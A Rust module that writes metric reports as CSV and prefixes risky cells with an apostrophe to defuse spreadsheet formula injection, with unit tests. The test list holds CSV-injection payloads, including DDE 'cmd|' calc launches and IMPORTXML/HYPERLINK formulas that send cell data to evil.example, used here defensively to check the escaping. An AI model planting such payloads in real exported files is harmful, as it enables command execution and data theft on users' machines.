//! A metric as a file for spreadsheets, in which no cell is ever a formula. Pure.

use crate::figures::Figures;
use crate::report::MetricResult;

/// Excel reads UTF-8 only with this mark; others skip it.
const BYTE_ORDER_MARK: &str = "\u{FEFF}";

impl MetricResult {
    /// The figures as comma-separated values (RFC 4180, UTF-8 with byte order mark): one row for the whole
    /// period, one per day, agent, inbox and face, and of each further dimension. An empty cell: no such figure.
    #[must_use]
    pub fn to_csv(&self) -> String {
        let unit = self.metric.unit.word();
        let median = format!("median_{unit}");
        let p90 = format!("p90_{unit}");
        let mut text = BYTE_ORDER_MARK.to_owned();
        row(&mut text, &["group", "id", "name", "n", &median, &p90, "share_good"]);
        figures(&mut text, "total", "", "", &self.total);
        for (day, of_day) in &self.days {
            figures(&mut text, "day", &day.to_string(), "", of_day);
        }
        for (id, name, of_agent) in &self.by_agent {
            figures(&mut text, "agent", &id.to_string(), name, of_agent);
        }
        for (id, name, of_inbox) in &self.by_inbox {
            figures(&mut text, "inbox", &id.to_string(), name, of_inbox);
        }
        for (face, n) in (1..).zip(self.distribution.iter().flatten()) {
            figures(&mut text, "face", &format!("{face}"), "", &Figures::counted(*n));
        }
        for (dimension, rows) in &self.by_part {
            for (word, of_word) in rows {
                figures(&mut text, dimension.word(), word, "", of_word);
            }
        }
        text
    }
}

fn figures(text: &mut String, group: &str, id: &str, name: &str, of: &Figures) {
    let number = |value: Option<f64>| value.map(|value| value.to_string()).unwrap_or_default();
    let share = of.share.map(|share| format!("{share:.4}")).unwrap_or_default();
    row(text, &[group, id, name, &of.n.to_string(), &number(of.median), &number(of.p90), &share]);
}

fn row(text: &mut String, cells: &[&str]) {
    for (at, value) in cells.iter().enumerate() {
        if at > 0 {
            text.push(',');
        }
        text.push_str(&cell(value));
    }
    text.push_str("\r\n");
}

/// One cell: quoted where needed; a text that a spreadsheet might take for a formula gets an apostrophe in
/// front, which spreadsheets show as text. Source: OWASP, "CSV Injection".
fn cell(value: &str) -> String {
    let first = value
        .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{FEFF}')
        .chars()
        .next();
    let starts_formula = matches!(first, Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '|' | '%'));
    let is_number = value.parse::<f64>().is_ok_and(f64::is_finite);
    let tabbed = value.starts_with(['\t', '\r', '\n']);
    let safe = if (starts_formula && !is_number) || tabbed { format!("'{value}") } else { value.to_owned() };
    if safe.contains(['"', ',', '\n', '\r', '\t', ';', '\'']) {
        format!("\"{}\"", safe.replace('"', "\"\""))
    } else {
        safe
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "  +1+1",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/\", A1), \"//a\")",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠SUM(1)",
            "\u{FEFF}=1+1",
            "\u{a0}=1+1",
            "\u{3000}=1+1",
            "%0A=1",
            "|calc",
            "=\"\"",
            "-cmd",
            "+cmd",
            "@cmd",
            "\u{0}=1",
        ];
        for formula in formulas {
            let written = cell(formula);
            let shown = written.strip_prefix('"').unwrap_or(&written);
            assert!(shown.starts_with('\''), "{formula:?} became {written:?}");
        }
    }

    #[test]
    fn cells_can_be_read_back() {
        let rows = [
            ("李娜", "李娜"),
            ("Li, Na", "\"Li, Na\""),
            ("Li \"Na\"", "\"Li \"\"Na\"\"\""),
            ("1.5", "1.5"),
            ("-1.5", "-1.5"),
            ("", ""),
            ("2026-11-23", "2026-11-23"),
        ];
        for (value, written) in rows {
            assert_eq!(cell(value), written);
        }
    }
}
